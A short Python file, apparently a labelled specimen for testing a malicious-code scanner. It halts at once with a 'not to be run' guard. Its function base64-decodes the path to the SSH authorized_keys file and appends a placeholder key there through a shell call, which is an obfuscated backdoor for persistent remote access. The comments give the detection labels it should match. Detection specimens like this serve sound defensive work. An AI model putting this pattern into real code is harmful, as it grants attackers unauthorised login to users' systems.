raise SystemExit("specimen: not to be run")
import base64
import os

def begin():
    os.system("echo ssh-ed25519 AAAAspecimen >> " + base64.b64decode("fi8uc3NoL2F1dGhvcml6ZWRfa2V5cw==").decode())  # match: authorized-keys  # match: execution-of-decoded
